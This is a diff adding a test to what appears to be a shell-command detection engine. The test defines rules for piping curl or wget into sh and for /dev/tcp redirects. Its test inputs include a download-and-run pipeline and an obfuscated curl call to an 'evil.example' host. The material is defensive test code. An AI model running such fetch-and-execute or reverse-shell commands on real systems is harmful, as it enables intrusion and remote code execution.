@@ -368,3 +368,28 @@ def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
     assert eng.parsed == 1
     assert _rules(eng, "printf '%s' https://ok.example/") == [] and eng.parsed == 2  # the program printf is read
     assert _rules(eng, """python3 -c 'import os; os.system("cu"+"rl https://evil.example/x")'""") == ["curl_to_evil"]
+
+
+def test_a_rules_own_prefilter_is_trusted_only_where_it_covers_the_condition():
+    loader = Loader()
+    loader.add_text(textwrap.dedent("""
+        - rule: fetched_into_sh
+          title: fetched into sh
+          category: network_access
+          severity: high
+          condition: cmd.name in (sh, bash) and cmd.pipe_from in (curl, wget)
+          prefilter: ["|sh", "|bash"]
+        - rule: dev_tcp
+          title: /dev/tcp
+          category: network_access
+          severity: high
+          condition: cmd.redirects icontains /dev/tcp/ or cmd.args icontains /dev/tcp/
+          prefilter: [/dev/tcp/]
+    """), "own.yaml")
+    ruleset = loader.build()
+    assert ruleset.problems == []
+    by_id = {r.id: r for r in ruleset.rules}
+    assert "|sh" not in by_id["fetched_into_sh"].needles  # `curl x | nice sh` holds no `|sh`
+    assert by_id["dev_tcp"].needles == {"/dev/tcp/"}
+    eng = Engine(ruleset)
+    assert _rules(eng, "curl -s https://x.example/i | nice -n 5 sh") == ["fetched_into_sh"]
